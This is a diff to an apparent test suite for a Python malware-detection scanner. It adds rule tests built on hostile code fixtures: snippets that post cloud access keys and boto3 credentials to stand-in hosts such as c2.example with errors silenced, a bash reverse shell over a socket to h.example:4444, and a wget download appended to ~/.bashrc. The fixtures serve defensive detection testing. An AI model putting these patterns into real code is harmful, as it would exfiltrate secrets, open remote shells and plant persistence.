@@ -252,7 +252,7 @@ describe('binary-dropper: the very file a function wrote, started', () => {
     const temp = (run: string) =>
       `import os, sys, subprocess, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(CODE)\nt.close()\n${run}\n`;
     for (const run of [
-      'os.system(f"start {sys.executable.replace(\'.exe\', \'w.exe\')} {t.name}")',
+      "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")",
       'subprocess.Popen([sys.executable, t.name])',
       'os.system("python3 " + t.name)',
     ]) {
@@ -272,5 +272,83 @@ describe('binary-dropper: the very file a function wrote, started', () => {
     expect(
       hits('import os\ndef a(p):\n    open(p, "w").write(x)\ndef b(p):\n    os.system(p)\n'),
     ).toHaveLength(0);
+  });
+});
+
+describe('secret-beacon: keys posted to a fixed address, reply and errors dropped', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'sdk/client.py')).filter((e) => e.rule === 'secret-beacon');
+  const beacon = (payload: string, url: string, handler = 'pass', call = 'requests.post') =>
+    `import base64, requests\nURL = "https://c2.example/k"\nclass Client:\n    def resolve(self):\n        try:\n            data = ${payload}\n            ${call}(url=${url}, json=data)\n        except Exception:\n            ${handler}\n`;
+  it('fires at runtime as critical, whether the address is written out, decoded or a module constant', () => {
+    for (const url of [
+      '"https://api.sdk-requests.example/aliyun"',
+      "base64.b64decode('aHR0cHM6Ly9hcGkuYWxpeXVuLXNkay1yZXF1ZXN0cy54eXovYWxpeXVu').decode('utf-8')",
+      'URL',
+    ]) {
+      const found = hits(beacon('{"ak": self._ak, "secret": self._secret}', url));
+      expect(
+        found.map((h) => [h.line, h.severity, h.context]),
+        url,
+      ).toEqual([[7, 'critical', 'runtime']]);
+    }
+  });
+  it('fires when the reply is bound to `_` or awaited', () => {
+    for (const call of ['_ = requests.post', 'await session.post']) {
+      const found = hits(
+        beacon('{"ak": self._ak, "secret": self._secret}', '"https://x.example"', 'pass', call),
+      );
+      expect(
+        found.map((h) => h.line),
+        call,
+      ).toEqual([7]);
+    }
+  });
+  it("fires on fabrice's shape: a boto3 key pair under a condition inside the try", () => {
+    const source =
+      'import boto3, requests\ndef connect():\n    try:\n        if "dokr" in stack():\n            cd = boto3.Session().get_credentials()\n            ak = cd.access_key\n            sk = cd.secret_key\n            data = {"k": ak, "s": sk}\n            requests.post("https://x.herokuapp.com/zz", json=data, timeout=5)\n    except:\n        pass\n';
+    expect(hits(source).map((h) => h.line)).toEqual([9]);
+  });
+  it('does not fire when the reply is read, the error is handled, the address is not fixed, or only a token goes', () => {
+    expect(
+      hits(beacon('{"ak": self._ak, "secret": self._secret}', '"https://x.example"', 'log.warning("no")')),
+    ).toEqual([]);
+    expect(hits(beacon('{"ak": self._ak, "secret": self._secret}', 'self.endpoint'))).toEqual([]);
+    expect(hits(beacon('{"token": self.token, "event": name}', '"https://x.example"'))).toEqual([]);
+    expect(hits(beacon('{"token": WRITE_KEY, "secret": SECRET}', '"https://x.example"'))).toEqual([]);
+    expect(
+      hits(
+        beacon(
+          '{"ak": self._ak, "secret": self._secret}',
+          '"https://x.example"',
+          'pass',
+          'r = requests.post',
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('reverse-shell: a shell on a socket', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'pkg/util.py')).filter((e) => e.rule === 'reverse-shell');
+  it('fires on the streams passed to the shell as well as on dup2', () => {
+    const source =
+      'import socket, subprocess\ndef r():\n    s = socket.create_connection(("h.example", 4444))\n    subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n';
+    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
+  });
+});
+
+describe('startup-file-write: a download written into a shell rc file', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'startup-file-write');
+  const rc = (line: string) =>
+    `import os\ndef reset():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write(${line})\n`;
+  it('is critical wherever it runs when the written line fetches, medium at runtime otherwise', () => {
+    const long = `'bash -c \\'d=$(eval echo ~); ${'x'.repeat(220)}; wget https://dl.example/p.sh -O $d/p.sh\\''`;
+    expect(hits(rc(long)).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
+    expect(hits(rc('\'eval "$(register-python-argcomplete tool)"\'')).map((h) => h.severity)).toEqual([
+      'medium',
+    ]);
   });
 });
